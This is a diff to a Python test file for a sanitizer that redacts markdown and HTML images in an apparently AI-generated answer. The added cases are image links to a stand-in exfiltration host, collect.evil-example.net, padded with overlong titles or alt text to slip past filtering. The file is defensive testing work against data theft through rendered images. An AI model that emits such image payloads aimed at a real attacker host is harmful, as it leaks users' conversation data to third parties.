@@ -201,12 +201,20 @@ EVIL = "https://collect.evil-example.net"
         f"<div>\n```\n\n![x]({EVIL}/p?d=1)",
         f"~~~\n```\n~~~\n![x]({EVIL}/p?d=1)",
         f"````\n```\n````\n![x]({EVIL}/p?d=1)",
+        f'![x]({EVIL}/p?d=1 "{"t" * 400}")',
+        f"![x]({EVIL}/p?d=1 no title)",
+        f'<img alt="{"a" * 5000}" src="{EVIL}/p?d=1">',
     ],
 )
 def test_an_image_that_may_carry_something_away_is_taken_out(text: str) -> None:
     said, counts = read(text)
     assert "[IMAGE_REDACTED]" in said
     assert any(kind.startswith("answer.image.") for kind in counts)
+
+
+def test_an_image_with_a_text_that_is_too_long_to_be_held_becomes_a_link() -> None:
+    text = f"![{'a ' * 900}]({EVIL}/p?d=1)"
+    assert read(text) == (text[1:], {"answer.image.overlong": 1})
 
 
 @pytest.mark.parametrize(
